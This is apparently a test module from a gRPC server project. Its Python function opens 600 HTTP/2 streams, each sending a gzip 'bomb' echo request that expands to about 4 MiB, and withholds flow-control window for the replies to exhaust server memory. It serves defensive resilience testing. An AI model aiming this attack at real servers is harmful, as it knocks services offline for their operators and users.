"""600 compressed calls on one connection, of 4 KB each, which become 4 MiB each, and as much again
when they are answered: no window is granted for the replies.
"""

from __future__ import annotations

import gzip

import trio
from echo.v1.echo_pb2 import EchoRequest

from tests.attacks import raw

STREAMS = 600
LENGTH = 4 * 1024 * 1024 - 64


async def run(address: str, seconds: float) -> None:
    """Make the calls, and leave them as they are for `seconds`."""
    block = raw.encode_request_headers(f"/{raw.SERVICE}/Echo", grpc_encoding="gzip")
    request = EchoRequest(message="x" * LENGTH).SerializeToString()
    bomb = raw.encode_message(gzip.compress(request), compressed=True)
    with trio.move_on_after(seconds):
        async with raw.connect_raw(address) as connection:
            for stream_id in range(1, 2 * STREAMS, 2):
                await connection.send(raw.headers_frames(stream_id, block))
                await connection.send_data(stream_id, bomb, end=True)
            await trio.sleep_forever()
